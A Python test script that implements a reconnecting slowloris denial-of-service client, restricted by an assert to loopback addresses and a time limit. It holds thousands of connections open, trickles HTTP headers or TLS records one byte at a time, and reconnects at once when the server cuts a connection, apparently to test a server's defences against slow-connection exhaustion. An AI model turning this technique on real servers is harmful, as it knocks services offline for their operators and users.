#!/usr/bin/env python3
"""A reconnecting slowloris for tests (loopback only, bounded in time): keeps --conns
connections open from --source, each trickling a request head (http) or a TLS record (tls) one
byte every --every seconds, and opens a new one at once whenever the server cuts one. Writes
--ready once the first --conns connects have been tried; stops after --seconds or when --stop
exists, then prints "connects=N cuts=N open=N held=N" (held: open for longer than 2 s)."""
import argparse
import errno
import os
import resource
import selectors
import socket
import time

HEADS = {
    "http": (b"GET /rest/v1/pss/health HTTP/1.1\r\nHost: x\r\nX-Slow: ", b"a"),
    # A TLS handshake record announcing 512 bytes, which then come one at a time.
    "tls": (b"\x16\x03\x01\x02\x00", b"\x00"),
}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--source", default="127.0.0.2")
    ap.add_argument("--conns", type=int, default=3500)
    ap.add_argument("--seconds", type=float, default=30)
    ap.add_argument("--every", type=float, default=0.5)
    ap.add_argument("--mode", choices=sorted(HEADS), default="http")
    ap.add_argument("--ready")
    ap.add_argument("--stop")
    a = ap.parse_args()
    assert a.host.startswith("127.") and a.source.startswith("127."), "loopback only"
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = a.conns + 256
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, want), hard))
    first, trickle = HEADS[a.mode]
    sel = selectors.DefaultSelector()
    born = {}  # socket -> time connected (None while connecting)
    stats = {"connects": 0, "cuts": 0}

    def open_one():
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        except OSError:
            return False  # out of descriptors: the caller tries again later
        s.setblocking(False)
        try:
            s.bind((a.source, 0))
            err = s.connect_ex((a.host, a.port))
        except OSError:
            s.close()
            return False
        if err not in (0, errno.EINPROGRESS):
            s.close()
            return False
        stats["connects"] += 1
        born[s] = None
        sel.register(s, selectors.EVENT_WRITE)
        return True

    def drop(s):
        sel.unregister(s)
        del born[s]
        s.close()
        stats["cuts"] += 1

    end = time.monotonic() + a.seconds
    for _ in range(a.conns):
        open_one()
    if a.ready:
        with open(a.ready, "w") as f:
            f.write(str(stats["connects"]))
    next_tick = time.monotonic()
    while time.monotonic() < end and not (a.stop and os.path.exists(a.stop)):
        for key, ev in sel.select(timeout=0.05):
            s = key.fileobj
            if born.get(s, 0) is None:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    drop(s)
                    continue
                try:
                    s.send(first)
                except OSError:
                    drop(s)
                    continue
                born[s] = time.monotonic()
                sel.modify(s, selectors.EVENT_READ)
            elif ev & selectors.EVENT_READ:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    drop(s)
        now = time.monotonic()
        if now >= next_tick:
            next_tick = now + a.every
            for s in [s for s, t in born.items() if t is not None]:
                try:
                    s.send(trickle)
                except OSError:
                    drop(s)
        # Reconnect what was cut, at once.
        while len(born) < a.conns and time.monotonic() < end:
            if not open_one():
                break
    now = time.monotonic()
    held = sum(1 for t in born.values() if t is not None and now - t > 2)
    print(f"connects={stats['connects']} cuts={stats['cuts']} open={len(born)} held={held}")


if __name__ == "__main__":
    main()
